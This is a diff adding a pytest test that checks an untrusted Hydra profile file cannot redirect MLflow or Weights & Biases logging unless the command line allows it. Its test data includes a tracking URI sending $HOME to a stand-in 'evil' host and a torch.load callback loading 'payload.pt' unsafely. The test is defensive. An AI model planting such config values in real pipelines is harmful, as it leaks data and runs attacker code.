@@ -438,6 +438,31 @@ def test_a_file_sets_nothing_of_hydras_own_unless_that_is_trusted(evil, monkeypa
     assert completed([*spelling, "profile=bad", "trust=[hydra]"], leave_nothing=False)
 
 
+@pytest.mark.parametrize(
+    ("text", "key"),
+    [
+        ("logger: {mlflow: {tracking_uri: 'http://evil/${oc.env:HOME}'}}", "logger.mlflow.tracking_uri"),
+        ("logger: {wandb: {entity: evil}}", "logger.wandb.entity"),
+        (
+            "logger: {mine: {_target_: seqrl.loggers.Mlflow, tracking_uri: 'sqlite:////root/x.db'}}",
+            "logger.mine.tracking_uri",
+        ),
+    ],
+)
+def test_a_file_sends_no_curves_elsewhere_unless_the_command_line_says_so(evil, monkeypatch, text, key):
+    (evil / "conf" / "profile").mkdir(parents=True)
+    loggers = "[mlflow, wandb, jsonl]"
+    file = f"# @package _global_\ndefaults: [{{override /logger: {loggers}}}]\n{text}\n"
+    (evil / "conf" / "profile" / "bad.yaml").write_text(file)
+    monkeypatch.chdir(evil)
+    given = ["--config-dir", "conf", "profile=bad"]
+    for words in (given, ["-m", *given, "seed=0,1"], [*given, "logger.mlflow.name=x"]):
+        with pytest.raises(ConfigError, match=rf"{key}: a file sets it .* or add trust=\[logger\]"):
+            completed(words, leave_nothing=False)
+    for said in ("trust=[logger]", f"{key}=here"):
+        assert completed([*given, said], leave_nothing=False)
+
+
 CALLBACK = "hydra: {callbacks: {evil: {_target_: torch.load, f: payload.pt, weights_only: false}}}"
 
 
